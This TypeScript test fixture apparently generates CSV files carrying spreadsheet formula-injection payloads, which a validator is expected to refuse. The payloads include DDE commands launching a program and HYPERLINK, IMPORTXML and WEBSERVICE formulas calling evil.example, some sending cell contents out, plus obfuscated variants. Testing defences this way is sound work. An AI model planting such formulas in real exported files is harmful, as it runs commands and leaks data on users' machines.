// CSV files with formulas that a spreadsheet runs (CWE-1236; OWASP, "CSV Injection").

import { toBytes } from '../../support/file-writers/bytes.ts';
import type { HostileFile } from './hostile-file.ts';

const byteOrderMark = '\xef\xbb\xbf';

const cells: readonly (readonly [string, string])[] = [
  ['a program', "=cmd|'/C calc'!A0"],
  ['a program after a sign', "+cmd|'/C calc'!A0"],
  ['a program after a minus', "-2+3+cmd|'/C calc'!A0"],
  ['a function of old', '@SUM(1+1)*cmd|"/C calc"!A0'],
  ['a program in quotes', '"=cmd|\'/C calc\'!A0"'],
  ['a program after a blank', " =cmd|'/C calc'!A0"],
  ['a program after a tab', "\t=cmd|'/C calc'!A0"],
  ['an address', '=HYPERLINK("https://evil.example?"&A1)'],
  ['an address with a blank before the bracket', '=HYPERLINK ("https://evil.example?"&A1)'],
  ['an address after a calculation', '=1+1+HYPERLINK("https://evil.example")'],
  ['data from outside', '=IMPORTXML("https://evil.example","//a")'],
  ['a service from outside', '=WEBSERVICE("https://evil.example")'],
  ['a function behind its name', '=_xlfn.WEBSERVICE("https://evil.example")'],
  ['an address of wide letters', '\xef\xbc\x9dHYPERLINK("https://evil.example")'],
];

const places: readonly (readonly [string, (cell: string) => string])[] = [
  ['first', (cell) => `${cell},1\n`],
  ['first, after a byte order mark', (cell) => `${byteOrderMark}${cell},1\n`],
  ['in the middle', (cell) => `date,amount\n2026-03-01,${cell}\n2026-03-02,1\n`],
  ['after a semicolon', (cell) => `date;amount\r\n2026-03-01;${cell}`],
  ['on a line of its own in quotes', (cell) => `a,"b\n${cell.replaceAll('"', '""')}"\n`],
];

export const tableAttacks: readonly HostileFile[] = cells.flatMap(([what, cell]) =>
  places.map(([where, place]) => ({
    group: 'table',
    name: `${what}, ${where}`,
    extension: 'csv',
    expected: 'refused',
    make: () => toBytes(place(cell)),
  })),
);
